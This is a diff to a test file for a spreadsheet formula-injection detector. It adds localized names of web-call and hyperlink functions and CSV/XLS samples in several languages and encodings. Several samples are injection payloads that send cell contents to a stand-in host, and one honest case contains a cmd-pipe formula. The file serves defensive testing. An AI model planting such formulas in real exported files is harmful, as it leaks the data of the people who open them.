@@ -16,6 +16,15 @@ def _page(*cells: str) -> str:
     return f"<table><tr>{''.join(f'<td>{cell}</td>' for cell in cells)}</tr></table>"
 
 
+_CALLS_ELSEWHERE: Final = (
+    "WEBDIENST", "ServiceWeb", "SERVICIOWEB", "SERVIZIO.WEB", "serviçoweb", "WEBBTJÄNST", "VERKKOPALVELU",
+    "WEBSZOLGÁLTATÁS", "WEBHİZMETİ", "\u0432\u0435\u0431\u0441\u043b\u0443\u0436\u0431\u0430", "XMLFILTERN",
+    "BILD",
+)  # fmt: skip
+_LINKS_ELSEWHERE: Final = (
+    "LIEN_HYPERTEXTE", "HIPERVINCULO", "COLLEG.IPERTESTUALE", "HIPERLIGAÇÃO", "HIPERŁĄCZE",
+    "KÖPRÜ", "\u0413\u0418\u041f\u0415\u0420\u0421\u0421\u042b\u041b\u041a\u0410",
+)  # fmt: skip
 _DANGEROUS: Final = (
     _case("program.csv", f"a,b\n1,{_EXCEL}\n", "program"),
     _case("program-quoted.csv", f'a,b\n1,"{_EXCEL}"\n', "program"),
@@ -54,6 +63,11 @@ _DANGEROUS: Final = (
     _case("call-in-a-page.xls", _page('=IF(1,<!-- > -->WEB<i></i>SERVICE("http://a.example/"))'), "call"),
     _case("link-in-a-page.xls", _page("<!-- ", '=HYPERLINK("http://a.example/?"&amp;A1)'), "link"),
     _case("program-in-an-attribute.xls", f'<html><td x:fmla="{_EXCEL}">1</td></html>', "program"),
+    *(_case(f"{name}.csv", f'a;b\n1;={name}("http://a.example/"&A1)\n', "call") for name in _CALLS_ELSEWHERE),
+    *(_case(f"{name}.csv", f'a;b\n1;={name}("http://a.example/"&A1)\n', "link") for name in _LINKS_ELSEWHERE),
+    _case("call-in-latin.csv", '=ServiçoWeb("http://a.example")\n'.encode("cp1252"), "call"),
+    _case("call-in-cyrillic.csv", f'a\n={_CALLS_ELSEWHERE[9]}("http://a.example")\n'.encode("cp1251"), "call"),
+    _case("link-in-polish.csv", '=Hiperłącze("http://a.example")\n'.encode("cp1250"), "link"),
     _case("link.csv", 'a,b\n1,"=HYPERLINK(""http://a.example/?""&A1,""Click"")"\n', "link"),
     _case("link-plus.csv", 'a,b\n1,"+HYPERLINK(""http://a.example"")"\n', "link"),
 )
@@ -74,10 +88,10 @@ _HONEST: Final = (
     _case("unmarked-big-endian.csv", "a;b\n-1;5 €\n".encode("utf-16-be")),
     _case("separator-told.csv", 'sep=;\na;b\n-1;"=SUM(A1;B1)"\nsep=^;a^=cmd|x\n'),
     _case("separator-of-its-own.csv", "sep=^\na^b|c\n-1^=SUM(A1,B1)\n"),
-    _case(
-        "report.xls", "<html><style>@page {margin: 1in}</style>" + _page("-1", "=A1+B1", '<a href="https://b.c">=</a>')
-    ),
+    _case("report.xls", "<style>@page {margin: 1in}</style>" + _page("-1", "=A1+B1", '<a href="https://b.c">=</a>')),
     _case("talk-of-pages.csv", f"a,b\n1,{_page('HYPERLINK(x)')}\n"),
+    _case("words.csv", "a;b\n- Bild (links);- ein Bild (rechts)\n- Kép (1);- Länk (x);=SUMME(A1:A2)\n"),
+    _case("words-in-latin.csv", "a;b\n- Größe (cm);=SUMME(A1:A2)\n".encode("cp1252")),
     _case("open-quote.csv", 'size,name\n5",desk\n-1,"x\n'),
 )
 CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
